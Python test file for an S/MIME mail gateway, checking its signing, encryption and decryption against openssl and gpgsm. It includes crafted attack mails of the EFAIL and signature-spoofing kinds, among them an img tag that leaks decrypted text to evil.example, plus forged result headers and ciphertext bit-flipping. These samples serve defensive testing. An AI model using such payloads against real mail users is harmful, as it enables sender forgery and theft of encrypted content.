#!/usr/bin/env python3
"""The engine's whole decision, by `hairpin gateway`: with openssl and gpgsm on the other side, both ways; Python's email
package judges what became of the MIME. Classes of "Johnny, you are fired!" (USENIX 2019) and of EFAIL (USENIX 2018)."""
import base64
import email
import email.message
import email.policy
import json
import os
import re
import subprocess
import tempfile
import time

PROGRAM, RELEASE = os.environ["HAIRPIN"], os.environ["HAIRPIN_RELEASE"]
EX_DATAERR, EX_UNAVAILABLE, EX_TEMPFAIL = 65, 69, 75
HOST = "gate.example.org"
D = tempfile.mkdtemp(prefix="hairpin-gateway-")


def path(name):
    return os.path.join(D, name)


def write(name, data):
    with open(path(name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())
    return path(name)


def openssl(*words, data=b"", fails=False):
    r = subprocess.run(["openssl", *words], input=data, capture_output=True, timeout=60, cwd=D)
    assert (r.returncode != 0) == fails, (words, r.stderr)
    return r.stdout


# --- people --------------------------------------------------------------------------------------


def make_authority():
    openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", "ca.key",
            "-out", "ca.pem", "-days", "3650", "-subj", "/CN=Authority")


def make_person(name, address, kind="ec"):
    """name.key, name.crt, name.pem (both)."""
    how = {"ec": ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256"], "rsa": ["-newkey", "rsa:2048"]}[kind]
    openssl("req", *how, "-nodes", "-keyout", f"{name}.key", "-out", f"{name}.csr", "-subj", f"/CN={name}")
    write(f"{name}.ext", f"subjectAltName=email:{address}\nkeyUsage=digitalSignature,keyEncipherment,keyAgreement\n"
          "extendedKeyUsage=emailProtection\n")
    openssl("x509", "-req", "-in", f"{name}.csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial", "-days",
            "3650", "-extfile", f"{name}.ext", "-out", f"{name}.crt")
    with open(path(f"{name}.key")) as k, open(path(f"{name}.crt")) as c:
        write(f"{name}.pem", k.read() + c.read())


# --- the verb ------------------------------------------------------------------------------------


class Answer:
    def __init__(self, r):
        self.code, self.raw = r.returncode, json.loads(r.stdout)
        self.facts = [f["text"] for f in self.raw["facts"]]
        self.groups = self.raw["groups"]
        for g in self.groups:
            g["mail"] = base64.b64decode(g.get("mail", ""))
        self.passed = [g for g in self.groups if g["action"] == "pass"]

    @property
    def mail(self):
        assert len(self.passed) == 1, self.groups
        return self.passed[0]["mail"]

    def group_of(self, address):
        return next(g for g in self.groups if address in g["recipients"])

    def has_fact(self, pattern):
        return any(re.search(pattern, f) for f in self.facts)


def gateway(way, mail, *options, program=RELEASE, policy=None):
    words = [program, "gateway", way, "--json", "--hostname", HOST, *options]
    if policy is not None:
        words += ["--policy", write("policy.ini", policy)]
    r = subprocess.run(words, input=mail, capture_output=True, timeout=60, cwd=D)
    assert r.returncode in (0, EX_UNAVAILABLE, EX_TEMPFAIL) and r.stderr == b"", (words, r.returncode, r.stderr)
    return Answer(r)


def incoming(mail, *options, key="ann.pem", **more):
    return gateway("in", mail, "--ca", "ca.pem", "--key", key, *options, **more)


def result(mail):
    """smime=... of our own field, which is the first of the mail and the only one."""
    fields = email.message_from_bytes(mail, policy=email.policy.compat32).get_all("Authentication-Results", [])
    ours = [f for f in fields if f.startswith(HOST)]
    assert len(ours) == 1 and mail.startswith(b"Authentication-Results: " + HOST.encode()), fields
    return re.search(r"smime=(\w+)", ours[0])[1]


def without_mark(mail):
    return re.sub(rb"\AAuthentication-Results:[^\n]*\n([ \t][^\n]*\n)*", b"", mail)


def crlf(text):
    return re.sub(rb"\r?\n", b"\r\n", text)


FROM_BOB = b"From: Bob <bob@partner.example>\r\nTo: ann@example.org\r\nSubject: hello\r\n" \
    b"Message-ID: <1@partner.example>\r\n"
TEXT = b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nf\xc3\xbcr Ann\r\n"
SEVEN = b"Content-Type: text/plain\r\n\r\nfor Ann\r\n"


def sign(content, who="bob", opaque=False, more=()):
    """An entity that openssl signed: header and body, lines in CRLF."""
    out = openssl("cms", "-sign", "-signer", f"{who}.crt", "-inkey", f"{who}.key", "-md", "sha256", "-binary",
                  *(["-nodetach"] if opaque else []), *more, data=content)
    return entity(out)


def encrypt(content, *to, cipher="-aes256", more=()):
    return entity(openssl("cms", "-encrypt", "-binary", cipher, *more, *[f"{t}.crt" for t in to or ("ann",)],
                          data=content))


def entity(out):
    """Without openssl's MIME-Version; the signed part of multipart/signed isn't touched by this (it is CRLF)."""
    head, _, body = crlf(out).partition(b"\r\n\r\n")
    head = b"\r\n".join(x for x in head.split(b"\r\n") if not x.startswith((b"MIME-Version", b"To:", b"From:")))
    return head + b"\r\n\r\n" + body


def mail_of(content, header=FROM_BOB):
    return header + b"MIME-Version: 1.0\r\n" + content


# --- what needs nothing stays as it is -------------------------------------------------------------


def unchanged_mails_are_the_same_to_the_octet():
    odd = [b"From: a@x.example\r\nTo: b@y.example\r\n\r\n8-bit \xff\xfe\r\n\r\n.\r\n",
           b"From: a@x.example\nTo: b@y.example\nSubject: unix\n\nbody\n",
           b"To: b@y.example\r\nSubject: no body",
           b"From : a@x.example\r\nTo:b@y.example\r\nSubject:\r\n =?utf-8?q?folded?=\r\n\tmore\r\n"
           b"Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\n"
           b"eJ8+IgAA\r\n",
           b"From: a@x.example\r\nTo: b@y.example\r\nContent-Type: text/calendar; method=REQUEST\r\n\r\n"
           b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"]
    for mail in odd:
        out = gateway("out", mail, policy="[cluster]\nmode = never\nsign = never\n")
        assert out.mail == mail and not out.passed[0]["changed"], out.mail
        inward = gateway("in", mail)
        assert without_mark(inward.mail) == mail and result(inward.mail) == "none", inward.mail
        plain = subprocess.run([PROGRAM, "gateway", "out"], input=mail, capture_output=True, timeout=60)
        assert plain.returncode == 0 and plain.stdout == mail, plain


def a_signed_mail_keeps_its_octets():
    mail = mail_of(sign(SEVEN))
    a = incoming(mail)
    assert without_mark(a.mail) == mail and result(a.mail) == "pass", a.raw
    assert b"body.smime-identifier=bob@partner.example" in a.mail
    lf = mail.replace(b"\r\n", b"\n")
    a = incoming(lf)
    assert without_mark(a.mail) == lf and result(a.mail) == "pass", a.raw


# --- in ------------------------------------------------------------------------------------------


def layers_come_off_in_any_nesting():
    signed, opaque = sign(TEXT), sign(TEXT, opaque=True)
    cases = {
        "opaque": (opaque, "pass", TEXT),
        "encrypted": (encrypt(TEXT), "none", TEXT),
        "signed, then encrypted": (encrypt(signed), "pass", signed),
        "opaque, then encrypted": (encrypt(opaque), "pass", TEXT),
        "encrypted, then signed": (sign(encrypt(TEXT)), "pass", TEXT),
        "encrypted, then opaque": (sign(encrypt(TEXT), opaque=True), "pass", TEXT),
        "triple": (sign(encrypt(signed)), "pass", signed),
        "twice encrypted": (encrypt(encrypt(opaque)), "pass", TEXT),
    }
    for name, (content, verdict, left) in cases.items():
        a = incoming(mail_of(content), program=PROGRAM)
        want = FROM_BOB + b"MIME-Version: 1.0\r\n" + left
        assert result(a.mail) == verdict, (name, a.facts)
        assert without_mark(a.mail) == want, (name, without_mark(a.mail), want)
        assert a.raw["decrypted"] == ("encrypted" in name or name == "triple"), (name, a.raw)
        assert bool(a.raw["harvest"]) == (verdict == "pass"), (name, a.raw["harvest"])


def more_layers_than_eight_stay():
    for extra in (0, 1):
        content = SEVEN
        for _ in range(8 + extra):
            content = sign(content, opaque=True)
        a = incoming(mail_of(content))
        assert a.has_fact("more than 8 layers") == bool(extra), a.facts
        assert (b"for Ann" in a.mail) != bool(extra)


def the_type_is_told_by_its_octets():
    for old, new in ((b"application/pkcs7-mime", b"Application/X-PKCS7-Mime"),
                     (b"smime-type=enveloped-data", b"SMIME-Type=signed-data"),
                     (b"application/pkcs7-mime", b"application/octet-stream")):
        content = encrypt(TEXT)
        assert old in content, content[:300]
        a = incoming(mail_of(content.replace(old, new)))
        assert without_mark(a.mail) == FROM_BOB + b"MIME-Version: 1.0\r\n" + TEXT, (new, a.facts)


def what_cannot_be_opened_passes_as_it_came():
    for content, fact in ((encrypt(TEXT, "bob"), "nobody whose key is here"),
                          (b"Content-Type: application/pkcs7-mime\r\n\r\nno CMS at all", "something else"),
                          (encrypt(TEXT)[:-300] + b"\r\n", "can't be opened")):
        mail = mail_of(content)
        a = incoming(mail)
        assert without_mark(a.mail) == mail and result(a.mail) == "none", a.raw
        assert a.has_fact(fact), (fact, a.facts)
        assert not a.raw["decrypted"]


def nobody_reads_what_was_encrypted_to_others():
    mail = mail_of(encrypt(TEXT, "ann"))
    a = incoming(mail, "--to", "ann@example.org,dora@example.org", key="ann.pem,dora.pem")
    assert b"f\xc3\xbcr Ann" in a.group_of("ann@example.org")["mail"]
    assert without_mark(a.group_of("dora@example.org")["mail"]) == mail, a.raw
    both = incoming(mail_of(encrypt(TEXT, "ann", "dora")), "--to", "ann@example.org,dora@example.org",
                    key="ann.pem,dora.pem")
    assert len(both.groups) == 1, both.raw


def an_opened_part_brings_no_header_along():
    inner = b"From: eve@evil.example\r\nSubject: forged\r\nTo: x@y.example\r\nContent-Type: text/html\r\n" \
        b"Content-Type: text/plain\r\nX-Hairpin-Gateway: in\r\nAuthentication-Results: " + HOST.encode() + \
        b"; smime=pass\r\n\r\n<p>\r\n"
    odd = mail_of(encrypt(inner), FROM_BOB + b"not a field\r\nX-Other: kept\r\n")
    a = incoming(odd)
    assert without_mark(a.mail) == odd and not a.raw["decrypted"] and a.has_fact("isn't a field"), a.raw
    a = incoming(mail_of(encrypt(inner), FROM_BOB + b"X-Other: kept\r\n"))
    assert without_mark(a.mail) == FROM_BOB + b"X-Other: kept\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" \
        b"<p>\r\n", a.mail


def text_without_a_header_is_text():
    a = incoming(mail_of(encrypt(b"just some words\nand a line\n")))
    assert without_mark(a.mail) == FROM_BOB + b"MIME-Version: 1.0\r\n\r\njust some words\r\nand a line\r\n", a.mail


# --- "Johnny, you are fired!" -----------------------------------------------------------------------


def tamper(content):
    return content.replace(b"for Ann", b"for Eve")


def johnny():
    """name -> (mail, verdict)."""
    good, opaque = sign(SEVEN), sign(SEVEN, opaque=True)
    wrapped = b"Content-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\nContent-Type: text/html\r\n\r\nPay Eve." \
        b"\r\n--w\r\n" + good + b"\r\n--w--\r\n"
    footer = b"Content-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\n" + good + \
        b"\r\n--w\r\n\r\n-- list footer\r\n--w--\r\n"
    third = good.rstrip()[:-2] + b"\r\nContent-Type: text/html\r\n\r\nPay Eve.\r\n" + \
        re.search(rb'boundary="([^"]+)"', good)[1].join((b"--", b"--")) + b"\r\n"
    certs_only = b"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n" \
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(
            openssl("crl2pkcs7", "-nocrl", "-certfile", "bob.crt", "-outform", "DER")).replace(b"\n", b"\r\n")
    eve = FROM_BOB.replace(b"Bob <bob@partner.example>", b"%s")
    return {
        "good": (mail_of(good), "pass"),
        "changed text": (mail_of(tamper(good)), "fail"),
        "someone else's certificate": (mail_of(sign(SEVEN, "eve")), "fail"),
        "no authority": (mail_of(sign(SEVEN, "lone")), "policy"),
        "zero signers": (mail_of(certs_only), "none"),
        "a part of multipart/mixed": (mail_of(wrapped), "none"),
        "a list's footer": (mail_of(footer), "none"),
        "a third part": (mail_of(third), "neutral"),
        "no From": (mail_of(good, b"To: ann@example.org\r\n"), "none"),
        "two Froms": (mail_of(good, FROM_BOB + b"From: eve@evil.example\r\n"), "none"),
        "two Froms, Eve's first": (mail_of(good, b"From: eve@evil.example\r\n" + FROM_BOB), "none"),
        "two addresses": (mail_of(good, eve % b"bob@partner.example, eve@evil.example"), "none"),
        "a group": (mail_of(good, eve % b"bob@partner.example: eve@evil.example;"), "none"),
        "display name": (mail_of(sign(SEVEN, "eve"), eve % b'"bob@partner.example" <eve@evil.example>'), "none"),
        "display name, encoded": (mail_of(sign(SEVEN, "eve"),
                                          eve % b"=?utf-8?q?bob=40partner=2Eexample?= <eve@evil.example>"), "none"),
        "comment": (mail_of(sign(SEVEN, "eve"), eve % b"eve@evil.example (bob@partner.example)"), "none"),
        "Sender is the signer": (mail_of(sign(SEVEN, "eve"), FROM_BOB + b"Sender: eve@evil.example\r\n"), "fail"),
        "two signers, both good": (mail_of(sign(SEVEN, more=("-signer", "eve.crt", "-inkey", "eve.key"))), "pass"),
        "two Content-Types": (mail_of(good, FROM_BOB + b"Content-Type: text/html\r\n"), "none"),
        "two boundaries": (mail_of(good.replace(b"; boundary=", b'; boundary="x"; boundary=')), "none"),
        "garbage for a signature": (mail_of(re.sub(rb"(\r\n\r\n)MI[A-Za-z0-9+/=\r\n]+", rb"\1AAAA\r\n\r\n", good)),
                                    "neutral"),
        "changed text inside": (mail_of(encrypt(tamper(good))), "fail"),
        "fine outside, changed inside": (mail_of(sign(encrypt(tamper(good)))), "fail"),
        "fine inside, someone else's outside": (mail_of(sign(encrypt(good), "eve")), "fail"),
        "signature inside mixed inside encryption": (mail_of(encrypt(wrapped)), "none"),
        "opaque": (mail_of(opaque), "pass"),
        "opaque, in a part": (mail_of(wrapped.replace(good, opaque)), "none"),
    }


def only_a_signature_that_covers_all_counts():
    for name, (mail, verdict) in johnny().items():
        a = incoming(mail, policy="[cluster]\ntag_subject = yes\n")
        assert result(a.mail) == verdict, (name, verdict, a.facts, a.mail[:400])
        subject = email.message_from_bytes(a.mail)["Subject"] or ""
        assert ("[signed by bob@partner.example]" in subject) == (verdict == "pass"), (name, subject)
        assert ("[invalid signature]" in subject) == (verdict not in ("pass", "none")), (name, subject)
        learned = {h["address"] for h in a.raw["harvest"]}
        assert learned <= ({"bob@partner.example"} if verdict in ("pass", "policy", "fail") else set()), (name, learned)
        if verdict != "fail":
            assert bool(learned) == (verdict in ("pass", "policy")), (name, learned)


# --- EFAIL -----------------------------------------------------------------------------------------


def nothing_around_a_ciphertext_is_merged_with_it():
    secret = encrypt(b"Content-Type: text/html\r\n\r\nsecret\r\n")
    mail = mail_of(b"Content-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\nContent-Type: text/html\r\n\r\n"
                   b'<img src="http://evil.example/\r\n--w\r\n' + secret + b"\r\n--w\r\nContent-Type: text/html\r\n\r\n"
                   b'">\r\n--w--\r\n')
    a = incoming(mail)
    assert without_mark(a.mail) == mail and not a.raw["decrypted"], a.raw


def cbc_that_nobody_signed_is_told_apart():
    a = incoming(mail_of(encrypt(TEXT)), policy="[cluster]\ntag_subject = yes\n")
    assert b"Subject: hello [decrypted, not authenticated]\r\n" in a.mail, a.mail
    assert b"not authenticated)" in a.mail.partition(b"\r\n\tbody")[0] and a.has_fact("nothing proves"), a.facts
    a = incoming(mail_of(encrypt(sign(TEXT))), policy="[cluster]\ntag_subject = yes\n")
    assert b"Subject: hello [decrypted] [signed by bob@partner.example]\r\n" in a.mail, a.mail


def a_changed_ciphertext_shows_its_octets():
    content = b"Content-Type: text/plain\r\n\r\n" + b"x" * 400 + b"\r\n"
    out = encrypt(content)
    head, _, body = out.partition(b"\r\n\r\n")
    der = bytearray(base64.b64decode(body))
    for at in range(60, 380, 32):  # each makes a block of chance octets, and bends the next one
        der[-at] ^= 1
    changed = head + b"\r\n\r\n" + base64.encodebytes(bytes(der)).replace(b"\n", b"\r\n")
    a = incoming(mail_of(changed))
    assert a.has_fact("it may have been tampered with") and b"not authenticated" in a.mail, a.facts


# --- marks -----------------------------------------------------------------------------------------


def forged_marks_are_gone_before_ours_come():
    forged = FROM_BOB.replace(b"hello", b"[signed by bob@partner.example] =?utf-8?q?=5Bdecrypted=5D?= hello") + \
        b"Authentication-Results: (x) GATE.example.org 1; smime=pass body.smime-identifier=bob@partner.example\r\n" \
        b"X-Hairpin-Gateway: in\r\nAuthentication-Results: mx.other.example; spf=pass\r\n"
    for content in (TEXT, encrypt(TEXT), sign(TEXT)):
        a = incoming(mail_of(content, forged))
        assert result(a.mail) == ("pass" if b"signed" in content[:60] else "none")
        assert b"X-Hairpin" not in a.mail and b"mx.other.example; spf=pass" in a.mail
        assert email.message_from_bytes(a.mail)["Subject"] == "hello", a.mail
    a = gateway("out", mail_of(TEXT, forged), policy="[cluster]\nmode = never\nsign = never\n")
    assert b"GATE" not in a.mail and b"X-Hairpin" not in a.mail and b"Subject: hello\r\n" in a.mail


# --- out -------------------------------------------------------------------------------------------

FROM_ANN = b"From: Ann <ann@example.org>\r\nTo: bob@partner.example\r\nSubject: hello\r\nMessage-ID: <2@example.org>\r\n"
MUST = "[cluster]\nmode = must\nkeep = 0\n"


def outgoing(mail, *options, cert="bob.crt,carl.crt", policy=MUST, **more):
    return gateway("out", mail, "--key", "ann.pem", "--cert", cert, *options, policy=policy, **more)


def openssl_opens(mail, who="bob"):
    return openssl("cms", "-decrypt", "-inform", "SMIME", "-recip", f"{who}.crt", "-inkey", f"{who}.key", data=mail)


def openssl_verifies(content):
    return openssl("cms", "-verify", "-inform", "SMIME", "-CAfile", "ca.pem", "-purpose", "any", data=content)


def fidelity_mails():
    m = email.message.EmailMessage(policy=email.policy.SMTP.clone(cte_type="8bit"))
    m["From"], m["To"], m["Subject"] = "Ann <ann@example.org>", "bob@partner.example", "f\u00fcr Bob"
    m.set_content("Gr\u00fc\u00dfe\n.\n-- \nFrom here\n", cte="8bit")
    m.add_alternative("<p>Gr\u00fc\u00dfe</p>\n", subtype="html", cte="8bit")
    m.add_attachment(bytes(range(256)) * 40, maintype="application", subtype="octet-stream",
                     filename="\u00e4 b.bin")
    m.add_attachment("BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nSUMMARY:\u00e9\r\nEND:VCALENDAR\r\n", subtype="calendar",
                     params={"method": "REQUEST"}, cte="8bit")
    inner = email.message.EmailMessage()
    inner["Subject"] = "inside"
    inner.set_content("forwarded\n")
    m.add_attachment(inner)
    latin = b"From: ann@example.org\r\nTo: bob@partner.example\r\nMIME-Version: 1.0\r\n" \
        b"Content-Type: text/plain; charset=iso-8859-15\r\nContent-Transfer-Encoding: 8bit\r\n\r\n100 \xa4\r\n"
    return [bytes(m), latin, b"From: ann@example.org\r\nTo: bob@partner.example\r\n\r\nno MIME at all\r\n",
            b"From: ann@example.org\nTo: bob@partner.example\n\nlines of Unix\n",
            b"From: ann@example.org\r\nTo: bob@partner.example\r\nContent-Type: application/ms-tnef; name=winmail.dat\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\neJ8+IgAA\r\n"]


def contents(raw):
    """Leaves with type, file name and decoded content."""
    m = email.message_from_bytes(raw, policy=email.policy.default)
    out = []
    for part in m.walk():
        if part.is_multipart():
            out.append(part.get_content_type())
            continue
        data = part.get_payload(decode=True)
        if part.get_content_maintype() == "text":
            data = data.replace(b"\r\n", b"\n")
        out.append((part.get_content_type(), part.get_content_charset(), part.get_filename(), data))
    return out


def the_mail_survives_sign_and_encrypt():
    for mail in fidelity_mails():
        for opaque in ("yes", "no"):
            a = outgoing(mail, policy=MUST + f"opaque = {opaque}\n", program=PROGRAM)
            outer = email.message_from_bytes(a.mail)
            assert outer.get_content_type() == "application/pkcs7-mime" and outer["To"] == "bob@partner.example"
            inner = openssl_verifies(openssl_opens(a.mail))
            assert contents(inner) == contents(mail), (contents(inner), contents(mail))
            back = gateway("in", a.mail, "--ca", "ca.pem", "--key", "bob.pem", program=PROGRAM)
            assert result(back.mail) == "pass" and back.has_fact("decrypted: "), back.facts
            got = contents(without_mark(back.mail))
            got = got if opaque == "yes" else got[1:-1]
            assert got == contents(mail), (got, contents(mail))


def a_signed_mail_is_of_seven_bits():
    for mail in fidelity_mails():
        a = outgoing(mail, policy="[cluster]\nmode = never\n")
        assert all(c < 128 for c in a.mail.partition(b"\n\n" if b"\r" not in mail else b"\r\n\r\n")[2]), a.mail
        m = email.message_from_bytes(a.mail)
        assert m.get_content_type() == "multipart/signed" and m.get_param("micalg") == "sha-256", m.items()
        assert m.get_param("protocol") == "application/pkcs7-signature"
        assert contents(openssl_verifies(a.mail)) == contents(mail)


def rsa_keys_sign_as_the_policy_says():
    def is_signed_by_pss(mail):
        shown = openssl("cms", "-cmsout", "-print", "-noout", "-inform", "SMIME", data=mail)
        return re.search(rb"signatureAlgorithm: *\n *algorithm: (\S+)", shown)[1] == b"rsassaPss"

    for opaque in "yes", "no":
        for value, key, is_pss in ("pkcs1", "ann_rsa", False), ("pss", "ann_rsa", True), ("pss", "ann", False):
            a = gateway("out", FROM_ANN + b"\r\ntext\r\n", "--key", f"{key}.pem",
                        policy=f"[cluster]\nmode = never\nopaque = {opaque}\nrsa_signature = {value}\n")
            assert b"text" in openssl_verifies(a.mail), (value, key, a.facts)
            assert is_signed_by_pss(a.mail) == is_pss, (value, key)
            back = incoming(a.mail)
            assert result(back.mail) == "pass", back.facts
    # Of two recipients of one mail each gets what they can read.
    mail = FROM_ANN.replace(b"To: bob", b"To: carl@partner.example, bob") + b"\r\ntext\r\n"
    a = gateway("out", mail, "--key", "ann_rsa.pem", "--to", "bob@partner.example,carl@partner.example",
                policy="[cluster]\nmode = never\n[carl@partner.example]\nrsa_signature = pss\n")
    for who, is_pss in ("bob", False), ("carl", True):
        got = a.group_of(f"{who}@partner.example")["mail"]
        assert b"text" in openssl_verifies(got)
        assert is_signed_by_pss(got) == is_pss, who


def each_cipher_is_read_by_openssl():
    for cipher in ("aes128-cbc", "aes256-cbc", "aes128-gcm", "aes256-gcm"):
        a = outgoing(FROM_ANN + b"\r\nsecret\r\n", policy=MUST + f"cipher = {cipher}\nsign = never\n")
        assert b"secret" not in a.mail and b"secret" in openssl_opens(a.mail), cipher
        assert (b"authEnveloped-data" in a.mail) == ("gcm" in cipher)
        assert a.has_fact("encrypted: " + cipher.replace("aes", "AES-").upper().replace("AES--", "AES-")), a.facts


def whom_the_header_does_not_name_gets_a_ciphertext_of_his_own():
    mail = FROM_ANN.replace(b"To: bob", b"To: carl@partner.example, bob") + b"\r\nsecret\r\n"
    a = outgoing(mail, "--to", "bob@partner.example,carl@partner.example,dora@example.org",
                 cert="bob.crt,carl.crt,dora.crt")
    shared, hidden = a.group_of("bob@partner.example"), a.group_of("dora@example.org")
    assert sorted(shared["recipients"]) == ["bob@partner.example", "carl@partner.example"], a.groups
    assert hidden["recipients"] == ["dora@example.org"], a.groups
    for who, group in (("bob", shared), ("carl", shared), ("dora", hidden)):
        assert b"secret" in openssl_verifies(openssl_opens(group["mail"], who))
    count = "openssl cms -cmsout -print -inform SMIME"
    for group, n in ((shared, 2), (hidden, 1)):
        shown = openssl(*count.split()[1:], data=group["mail"])
        assert len(re.findall(rb"d\.(?:ktri|kari):", shown)) == n, shown


def without_a_certificate_must_never_passes_plain():
    mail = FROM_ANN.replace(b"bob@", b"nobody@") + b"\r\nsecret\r\n"
    a = outgoing(mail)
    assert a.code == EX_UNAVAILABLE and not a.passed, a.raw
    g = a.groups[0]
    assert g["action"] == "bounce" and g["status"].startswith("5."), g
    for word in ("nobody@partner.example", "no certificate", "hairpin cert add"):
        assert word in g["words"], g
    a = outgoing(mail, policy="[cluster]\nmode = must\nkeep = 2d\n")
    assert a.code == EX_TEMPFAIL and a.groups[0]["action"] == "wait", a.raw
    assert a.groups[0]["wait_for"] == "nobody@partner.example" and a.groups[0]["keep_sec"] == 172800, a.groups
    a = outgoing(mail.replace(b"To: nobody", b"To: bob@partner.example, nobody"))
    assert len(a.passed) == 1 and a.passed[0]["recipients"] == ["bob@partner.example"] and b"secret" not in a.mail
    for policy, plain in (("never", True), ("on-trigger", True), ("when-possible", True), ("must", False)):
        a = outgoing(mail, policy=f"[cluster]\nmode = {policy}\nkeep = 0\nsign = never\n")
        assert (a.passed and a.mail == mail) if plain else not a.passed, (policy, a.raw)


def triggers_ask_and_are_taken_out():
    mail = FROM_ANN.replace(b"hello", b"[Encrypt] hello") + b"\r\nsecret\r\n"
    for mode in ("on-trigger", "when-possible", "must"):
        a = outgoing(mail, policy=f"[cluster]\nmode = {mode}\nkeep = 0\n")
        assert b"Subject: hello\r\n" in a.mail and b"secret" not in a.mail, (mode, a.mail)
        nobody = outgoing(mail.replace(b"bob@", b"nobody@"), policy=f"[cluster]\nmode = {mode}\nkeep = 0\n")
        assert not nobody.passed and "the subject asks for it" in nobody.groups[0]["words"], (mode, nobody.raw)
    never = outgoing(mail, policy="[cluster]\nmode = never\n")
    assert never.code == EX_UNAVAILABLE and not never.passed and "never" in never.groups[0]["words"], never.raw
    a = outgoing(FROM_ANN + b"Sensitivity: Company-Confidential\r\n\r\nsecret\r\n",
                 policy="[cluster]\nmode = on-trigger\nheader_trigger = Sensitivity: confidential\n")
    assert b"secret" not in a.mail and b"Sensitivity: Company-Confidential" in a.mail
    a = outgoing(FROM_ANN.replace(b"hello", b"hello [sign]") + b"\r\ntext\r\n",
                 policy="[cluster]\nmode = never\nsign = on-trigger\n")
    assert b"Subject: hello\r\n" in a.mail and b"multipart/signed" in a.mail


def an_answer_to_what_was_decrypted_is_encrypted_or_stays():
    mail = FROM_ANN + b"In-Reply-To: <1@partner.example>\r\n\r\n> secret\r\n"
    for mode in ("never", "on-trigger", "when-possible"):
        policy = f"[cluster]\nmode = {mode}\nkeep = 0\nsign = never\n"
        a = outgoing(mail, "--reply", policy=policy)
        assert b"secret" not in a.mail, (mode, a.raw)
        a = outgoing(mail.replace(b"bob@", b"nobody@"), "--reply", policy=policy)
        assert not a.passed and "answers a mail" in a.groups[0]["words"], (mode, a.raw)
        a = outgoing(mail, "--reply", cert="carl.crt", policy=policy + "replies_must = no\n")
        assert a.mail == mail, (mode, a.raw)


def what_is_encrypted_or_signed_already_is_not_done_again():
    encrypted = mail_of(encrypt(TEXT, "bob"), FROM_ANN)
    a = outgoing(encrypted)
    assert a.mail == encrypted and a.has_fact("encrypted already"), a.facts
    pgp = FROM_ANN + b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=p\r\n\r\n' \
        b"--p\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--p\r\n" \
        b"Content-Type: application/octet-stream\r\n\r\n%s--p--\r\n"
    sealed = subprocess.run([PROGRAM, "sop", "encrypt", "--with-password=@ENV:WORD"], input=TEXT, capture_output=True, check=True,
                            env={**os.environ, "WORD": "word"}).stdout
    real, made_up = pgp % crlf(sealed), pgp % b"-----BEGIN PGP MESSAGE-----\r\n\r\nhQ==\r\n-----END PGP MESSAGE-----\r\n"
    assert outgoing(real).mail == real
    for fake in (real.replace(b"BEGIN PGP", b"BEGIN NOT"), made_up, FROM_ANN + b"Content-Type: application/pkcs7-mime; "
                 b"smime-type=enveloped-data\r\n\r\nsecret\r\n",
                 mail_of(encrypt(TEXT, "bob")[:-200] + b"\r\n", FROM_ANN)):
        a = outgoing(fake)
        assert not a.has_fact("encrypted already") and b"secret" not in a.mail and a.mail != fake, a.facts
        assert openssl_verifies(openssl_opens(a.mail))
    signed = mail_of(sign(SEVEN, "ann"), FROM_ANN)
    assert outgoing(signed, policy="[cluster]\nmode = never\n").mail == signed
    a = outgoing(signed)
    assert a.has_fact("signed already")
    inner = openssl_opens(a.mail)
    assert openssl_verifies(inner) and crlf(inner).strip().endswith(signed.partition(b"\r\n\r\n")[2].strip())


def a_key_signs_for_its_own_address_alone():
    mail = FROM_ANN.replace(b"ann@example.org", b"boss@example.org") + b"\r\ntext\r\n"
    a = gateway("out", mail, "--from", "ann@example.org", "--key", "ann.pem", policy="[cluster]\nmode = never\n")
    assert a.mail == mail and a.has_fact("no key with a valid certificate for boss@example.org"), a.facts


# --- gpgsm -----------------------------------------------------------------------------------------


def gpgsm(home, *words, data=b""):
    r = subprocess.run(["gpgsm", "--homedir", home, "--batch", "--yes", "--disable-crl-checks", *words], input=data, capture_output=True, timeout=60)
    return r


def import_key(home, name):
    """Debian's gpgsm takes private keys from PKCS#12 alone, and of about ten files it can't read one, whose salts it
    doesn't like: then another one is made."""
    for _ in range(5):
        openssl("pkcs12", "-export", "-in", f"{name}.crt", "-inkey", f"{name}.key", "-certfile", "ca.pem", "-out", "k.p12",
                "-passout", "pass:x", "-keypbe", "PBE-SHA1-3DES", "-certpbe", "PBE-SHA1-3DES", "-macalg", "sha1")
        r = gpgsm(home, "--pinentry-mode", "loopback", "--passphrase-fd", "0", "--import", path("k.p12"), data=b"x\n")
        if b"secret keys imported: 1" in r.stderr:
            return
    raise AssertionError(r.stderr)


def gpgsm_opens_what_we_send_and_we_what_it_sends():
    home = path("gnupg")
    os.mkdir(home, 0o700)
    try:
        write("gnupg/trustlist.txt", openssl("x509", "-in", "ca.pem", "-noout", "-fingerprint", "-sha1")
              .split(b"=")[1].strip() + b" S relax\n")
        write("gnupg/gpg-agent.conf", "allow-loopback-pinentry\n")
        for name in ("ca.pem", "ann_rsa.crt"):  # this gpgsm encrypts to RSA alone
            gpgsm(home, "--import", path(name))
        import_key(home, "carl")
        mail = FROM_ANN.replace(b"bob@", b"carl@") + b"\r\nto gpgsm\r\n"
        a = outgoing(mail, policy=MUST + "opaque = yes\n")
        der = base64.b64decode(a.mail.partition(b"\r\n\r\n")[2])
        r = subprocess.run(["gpgsm", "--homedir", home, "--batch", "--disable-crl-checks", "--pinentry-mode", "loopback",
                            "--passphrase-fd", "0", "--decrypt", write("m.der", der)], input=b"x\n",
                           capture_output=True, timeout=60)
        assert b"signed-data" in r.stdout, (r.stdout, r.stderr)
        signed = base64.b64decode(r.stdout.replace(b"\r\n", b"\n").partition(b"\n\n")[2])
        r = gpgsm(home, "--verify", write("s.der", signed))
        assert b"Good signature from" in r.stderr, r.stderr
